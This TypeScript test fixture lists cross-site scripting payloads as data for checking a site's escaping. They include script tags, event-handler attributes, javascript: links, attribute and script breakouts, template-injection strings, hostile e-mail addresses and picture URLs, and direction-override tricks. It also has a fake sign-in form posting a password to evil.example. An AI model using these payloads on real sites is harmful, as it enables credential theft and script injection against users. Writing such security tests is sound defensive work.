/** Every payload sets this window property. In lower case, as e-mail addresses are. */
export const MARK = 'hostileran';
export const FOREIGN_HOST = 'evil.example';

const run = `${MARK}=1`;

/** Run, load or send something where a page takes them for markup; at most 100 characters each. */
export const hostileMarkup = {
  script: `<script>${run};alert(1)</script>`,
  image: `<img src=x onerror="${run}">`,
  svg: `<svg onload="${run}"></svg>`,
  animation: `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  details: `<details open ontoggle="${run}">more</details>`,
  frame: `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  link: `<a href="javascript:${run}">Click here</a>`,
  'SVG link': `<svg><a xlink:href="javascript:${run}"><text y=9>pay</text></a></svg>`,
  form: `<form action="https://${FOREIGN_HOST}/"><input name=password><button>Sign in</button></form>`,
  'foreign picture': `<img src="https://${FOREIGN_HOST}/seen">`,
  'foreign style': `<link rel=stylesheet href=https://${FOREIGN_HOST}/x.css>`,
  'end of an attribute': `" autofocus onfocus="${run}" x="`,
  'end of a quoted attribute': `' autofocus onfocus='${run}' x='`,
  'end of a title': `</title></textarea></style></noscript><img src=x onerror=${run}>`,
  'end of a script': `"</script><script>${run}</script>`,
  'end of JSON': `"}];${run};[{"x":"`,
  'javascript address': `javascript:${run}//`,
} as const;

/** Harmless in HTML; must be shown unchanged. */
const awkwardText = {
  'template braces': `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %> #{7*7}`,
  'character references': '&lt;script&gt; &#60;b&#62; &amp;amp; &copy',
  markdown: `[offer](javascript:${run}) ![x](https://${FOREIGN_HOST}/x.png)`,
  'direction and invisible characters': 'pay\u202Egnp.exe\u202C\u200B\u200D\u2066abc\u2069\uFEFFend',
  'a very long word': 'W'.repeat(95),
} as const;

export const hostileWords: string[] = [...Object.values(hostileMarkup), ...Object.values(awkwardText)];

/** Deliverable, but templates or attributes may take them for markup. */
export const hostileEmails = [
  `'/onerror='${run}@test.example`,
  `{{constructor.constructor\`${run}\`}}@test.example`,
  `\${${run}}#{7*7}&#60b@test.example`,
  `${'w'.repeat(200)}@test.example`,
];

export const hostilePictures = [
  `https://pictures.example/a.svg?"><script>${run}</script>`,
  `https://pictures.example/b.svg#'/onerror='${run}`,
  `/products/hex-bolt-m12.svg?"/onload="${run}`,
];
